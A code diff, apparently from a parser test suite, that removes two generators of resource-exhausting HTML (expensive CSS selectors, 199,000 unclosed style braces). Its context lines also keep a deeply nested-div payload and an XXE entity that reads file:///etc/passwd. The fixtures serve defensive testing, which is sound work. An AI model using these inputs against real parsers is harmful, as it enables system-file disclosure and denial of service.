@@ -361,15 +361,6 @@ def html_nested(_: str) -> bytes:
     return b"<html><body>" + b"<div>" * 100_000 + b"Few words" + b"</div>" * 100_000
 
 
-def html_that_looks_back(_: str) -> bytes:
-    return (b"<html><head><style>.y ~ .x{display:none} p:nth-child(2 of .y){opacity:0}</style>"
-            b"</head><body><p>Few words</p>" + b"<i class=x></i>" * 10_000)
-
-
-def html_styles_left_open(_: str) -> bytes:
-    return (b"<html><head><style>" + b"a{" * 199_000 + b"</style></head><body><p>Few words</p>")
-
-
 def html_reaching_out(address: str) -> bytes:
     return (
         f'<!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd">]><html><base href="{address}/">'
